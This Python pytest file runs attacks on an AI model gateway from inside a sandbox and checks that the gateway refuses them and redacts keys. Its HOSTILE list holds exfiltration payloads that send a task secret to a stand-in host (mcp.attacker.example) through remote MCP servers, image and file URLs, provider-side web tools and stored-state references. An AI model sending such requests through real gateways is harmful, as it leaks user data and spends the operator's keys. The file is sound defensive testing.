"""Attacks on the model gateway, run for real (N02, N03, N11).

A program step in a real sandbox (tests/fixtures/gateway_attacks/hostile_agent.py, stdlib)
sends the requests of the review to the sandbox's gateway; the host's providers forward to
the loopback fakes (tests/support/fake_openai.py, tests/support/fake_anthropic.py), which
record whatever reaches them. Each attack runs once per sandboxing backend (Docker, namespace:
tests/integration/_backends.py). Nothing leaves the machine: the sandbox has no network, the
fakes listen on 127.0.0.1, and the attack URLs are under ``.example`` (never resolved: refused
first).

Before the gateway allow-list (main at 477dfbd), every hostile request of
`test_provider_side_tools_urls_media_and_stored_state_never_reach_the_provider` reached the
fakes with the host's key, and the run of `test_a_deeply_nested_request_is_answered_400_...`
ended ``crashed``; the 401 body with the key and the base URL with its credentials reached
the program; a step whose model is ``openai`` had its Messages request forwarded with the
Anthropic key.
"""

from __future__ import annotations

import json
import shutil
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from runner.runs.run import execute_run
from runner.settings import Settings
from tests.integration._backends import backend, backend_entry
from tests.support import fake_anthropic, fake_openai

pytestmark = pytest.mark.docker
__all__ = ["backend", "backend_entry"]  # fixtures: every attack runs on each sandboxing backend

FIX = Path(__file__).resolve().parents[1] / "fixtures" / "gateway_attacks"
OPENAI_KEY = "sk-proj-test-GATEWAYKEY-31"
ANTHROPIC_KEY = "sk-ant-test-GATEWAYKEY-32"
SECRET = "task-secret-4711"  # task data a hostile program would carry out in a URL
EXFIL = f"https://mcp.attacker.example/sse?d={SECRET}"
USER = {"role": "user", "content": "hi"}


def _chat(**extra: Any) -> dict[str, Any]:
    return {"model": "gpt-4o", "messages": [USER], **extra}


def _responses(**extra: Any) -> dict[str, Any]:
    return {"model": "gpt-4o", "input": "hi", **extra}


def _messages(**extra: Any) -> dict[str, Any]:
    return {"model": "claude-sonnet-4-20250514", "max_tokens": 64, "messages": [USER], **extra}


def _user(*parts: dict[str, Any]) -> list[dict[str, Any]]:
    return [{"role": "user", "content": list(parts)}]


# (name, api, body, headers, kind the host names): the review's N02 and N03 requests
HOSTILE: list[tuple[str, str, dict[str, Any], dict[str, str], str]] = [
    (
        "responses_remote_mcp",
        "responses",
        _responses(
            tools=[
                {
                    "type": "mcp",
                    "server_label": "x",
                    "server_url": EXFIL,
                    "headers": {"Authorization": "Bearer stolen"},
                    "require_approval": "never",
                }
            ]
        ),
        {},
        "provider_tool",
    ),
    (
        "messages_mcp_servers",
        "messages",
        _messages(mcp_servers=[{"type": "url", "url": EXFIL, "name": "x"}]),
        {"anthropic-version": "2023-06-01"},
        "provider_tool",
    ),
    (
        "messages_mcp_beta_header",
        "messages",
        _messages(),
        {"anthropic-version": "2023-06-01", "anthropic-beta": "mcp-client-2025-04-04"},
        "beta_header",
    ),
    (
        "responses_web_search",
        "responses",
        _responses(tools=[{"type": "web_search_preview"}]),
        {},
        "provider_tool",
    ),
    ("chat_web_search", "chat_completions", _chat(web_search_options={}), {}, "provider_tool"),
    (
        "messages_web_fetch",
        "messages",
        _messages(tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}]),
        {},
        "provider_tool",
    ),
    (
        "responses_code_interpreter",
        "responses",
        _responses(tools=[{"type": "code_interpreter", "container": {"type": "auto"}}]),
        {},
        "provider_tool",
    ),
    (
        "chat_image_url",
        "chat_completions",
        _chat(messages=_user({"type": "image_url", "image_url": {"url": EXFIL}})),
        {},
        "media",
    ),
    (
        "messages_image_url",
        "messages",
        _messages(messages=_user({"type": "image", "source": {"type": "url", "url": EXFIL}})),
        {},
        "media",
    ),
    (
        "responses_file_url",
        "responses",
        _responses(input=_user({"type": "input_file", "file_url": EXFIL})),
        {},
        "media",
    ),
    (
        "responses_file_id",
        "responses",
        _responses(input=_user({"type": "input_file", "file_id": "file-abc"})),
        {},
        "media",
    ),
    (
        "responses_previous_response_id",
        "responses",
        _responses(previous_response_id="resp_0123"),
        {},
        "stored_state",
    ),
    ("responses_conversation", "responses", _responses(conversation="conv_1"), {}, "stored_state"),
    (
        "responses_item_reference",
        "responses",
        _responses(input=[{"type": "item_reference", "id": "msg_1"}]),
        {},
        "stored_state",
    ),
    ("responses_store", "responses", _responses(store=True), {}, "stored_state"),
    ("messages_container", "messages", _messages(container="container_1"), {}, "stored_state"),
    (
        "chat_400_image_urls",  # the review's 28 kB request billed 619 k tokens
        "chat_completions",
        _chat(
            messages=_user(
                *[
                    {"type": "image_url", "image_url": {"url": f"https://i.example/{i}.png"}}
                    for i in range(400)
                ]
            )
        ),
        {},
        "media",
    ),
    ("chat_extra_body_field", "chat_completions", _chat(unknown_feature=True), {}, "unknown"),
]
BENIGN = [
    ("chat", "chat_completions", _chat(temperature=0), {}),
    ("responses", "responses", _responses(), {}),
    ("messages", "messages", _messages(), {"anthropic-version": "2023-06-01"}),
]


@pytest.fixture
def fakes() -> Iterator[tuple[fake_openai.FakeOpenAI, fake_anthropic.FakeAnthropic]]:
    with (
        fake_openai.serve(fake_openai.FakeOpenAI()) as oai,
        fake_anthropic.serve(fake_anthropic.FakeAnthropic()) as ant,
    ):
        yield oai, ant


def _cases(rows: list[Any]) -> list[dict[str, Any]]:
    """The task's cases: ``{name, api, body, headers}`` of each row of `HOSTILE` / `BENIGN`."""
    return [dict(zip(("name", "api", "body", "headers"), row[:4], strict=True)) for row in rows]


def _project(tmp_path: Path, task: dict[str, Any]) -> Path:
    root = tmp_path / "project"
    shutil.copytree(FIX, root)
    (root / "tasks.jsonl").write_text(json.dumps({"task_id": "t1", "input": task}) + "\n")
    root.chmod(0o755)
    for path in root.iterdir():
        path.chmod(0o644)
    return root


def _run(
    tmp_path: Path,
    image: str,
    fakes: Any,
    workflow: str,
    task: dict[str, Any],
    backend: Any,
    **urls: str,
) -> tuple[str, list[dict[str, Any]]]:
    oai, ant = fakes
    root = _project(tmp_path, task)
    settings = Settings(
        state_dir=tmp_path / "state",
        image=image,
        openai_base_url=urls.get("openai", oai.url),
        openai_api_key=OPENAI_KEY,
        anthropic_base_url=urls.get("anthropic", ant.url),
        anthropic_api_key=ANTHROPIC_KEY,
    )
    result = execute_run(settings, root / workflow, root / "tasks.jsonl", "t1", backend=backend)
    lines = [json.loads(x) for x in result.trace_path.read_text().splitlines()]
    return result.status, lines


def test_provider_side_tools_urls_media_and_stored_state_never_reach_the_provider(
    tmp_path: Path, sandbox_image: str, fakes: Any, backend: Any
) -> None:
    oai, ant = fakes
    cases = _cases([*HOSTILE, *BENIGN])
    status, lines = _run(tmp_path, sandbox_image, fakes, "attacks.yaml", {"cases": cases}, backend)
    end = lines[-1]
    assert status == "succeeded", end
    answers = end["output"]
    # nothing hostile reached a provider: the fakes saw the three benign requests only
    assert len(oai.requests) == 2 and len(ant.requests) == 1, (oai.requests, ant.requests)
    seen = json.dumps([oai.requests, ant.requests, oai.headers, ant.headers])
    assert SECRET not in seen and "mcp" not in seen and "image" not in seen
    assert "anthropic-beta" not in seen
    for name, api, _body, _headers, kind in HOSTILE:
        answer = answers[name]
        assert answer["status"] == 400, (name, answer)
        error = answer["answer"]
        if api == "messages":  # the API's own error shape
            assert error["type"] == "error", (name, error)
            assert error["error"]["type"] == "invalid_request_error"
            text = error["error"]["message"]
        else:
            assert error["error"]["type"] == "invalid_request_error", (name, error)
            assert error["error"]["param"], (name, error)
            text = error["error"]["message"]
        assert "GatewayRequestRefused" in text and f"({kind};" in text, (name, text)
    for name, *_ in BENIGN:
        assert answers[name]["status"] == 200, (name, answers[name])
    # a Responses request is forwarded with store: false (the API's default would store it)
    responses = [
        r for r, p in zip(oai.requests, oai.paths, strict=True) if p.endswith("/responses")
    ]
    assert [r.get("store") for r in responses] == [False]
    # each refused request is a call of the trace, with its error class
    calls = [c for c in lines[1:-1] if c["tool"] == "model"]
    refused = [c for c in calls if (c.get("error") or {}).get("class", "").endswith("Refused")]
    assert len(refused) == len(HOSTILE), [c.get("error") for c in calls]
    assert end["outbound"] == []


def test_a_deeply_nested_request_is_answered_400_and_the_run_goes_on(
    tmp_path: Path, sandbox_image: str, fakes: Any, backend: Any
) -> None:
    oai, _ant = fakes
    depths = [64, 65, 99, 1_000, 100_000]
    status, lines = _run(tmp_path, sandbox_image, fakes, "deep.yaml", {"depths": depths}, backend)
    end = lines[-1]
    assert status == "succeeded", end  # was: crashed (the call line passed the host's depth)
    answers = end["output"]
    assert answers["64"]["status"] == 200, answers["64"]
    for depth in depths[1:]:
        answer = answers[str(depth)]
        assert answer["status"] == 400, (depth, str(answer)[:300])
        assert "nested too deeply" in answer["answer"]["error"]["message"]
    assert answers["after"]["status"] == 200  # the gateway still answers
    assert len(oai.requests) == 2  # the 64-deep request and the plain one


def _closed_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def test_errors_name_the_provider_never_its_url_and_provider_error_bodies_are_redacted(
    tmp_path: Path, sandbox_image: str, backend: Any
) -> None:
    """N09: a base URL with credentials and a 401 that echoes the key stay on the host."""
    password = "url-secret-pw-93"
    port = _closed_port()  # nothing listens: every try fails to connect
    unreachable = f"http://svc-user:{password}@127.0.0.1:{port}"

    def echo_key(headers: dict[str, str]) -> bytes:
        sent = headers.get("Authorization", "")
        message = f"Incorrect API key provided: {sent.removeprefix('Bearer ')}."
        return json.dumps({"error": {"message": message, "type": "invalid_request_error"}}).encode()

    with (
        fake_openai.serve(fake_openai.FakeOpenAI(status=401, error_body=echo_key)) as oai,
        fake_anthropic.serve(fake_anthropic.FakeAnthropic()) as ant,
    ):
        cases = _cases([row for row in BENIGN if row[0] != "responses"])
        status, lines = _run(
            tmp_path,
            sandbox_image,
            (oai, ant),
            "attacks.yaml",
            {"cases": cases},
            backend,
            anthropic=unreachable,
        )
        assert oai.requests, "the 401 came from the provider"
    assert status == "succeeded", lines[-1]
    answers = lines[-1]["output"]
    assert answers["chat"]["status"] == 401
    assert "Incorrect API key provided: [REDACTED:" in json.dumps(answers["chat"])
    unavailable = answers["messages"]["answer"]["error"]["message"]
    assert answers["messages"]["status"] == 502 and "ProviderUnavailable: anthropic" in unavailable
    trace = "\n".join(json.dumps(line) for line in lines)
    for secret in (OPENAI_KEY, password, "svc-user", f"127.0.0.1:{port}", oai.url):
        assert secret not in trace, secret  # nor in what the program got (its output)


def test_a_program_step_uses_only_the_provider_keys_its_workflow_declares(
    tmp_path: Path, sandbox_image: str, fakes: Any, backend: Any
) -> None:
    """N12: a step whose model is ``openai`` cannot spend the host's Anthropic key."""
    oai, ant = fakes
    cases = _cases(BENIGN)
    status, lines = _run(tmp_path, sandbox_image, fakes, "keys.yaml", {"cases": cases}, backend)
    assert status == "succeeded", lines[-1]
    answers = lines[-1]["output"]
    assert answers["chat"]["status"] == 200 and answers["responses"]["status"] == 200
    refused = answers["messages"]
    assert refused["status"] == 400, refused
    assert "(undeclared_provider;" in refused["answer"]["error"]["message"]
    assert ant.requests == [] and len(oai.requests) == 2
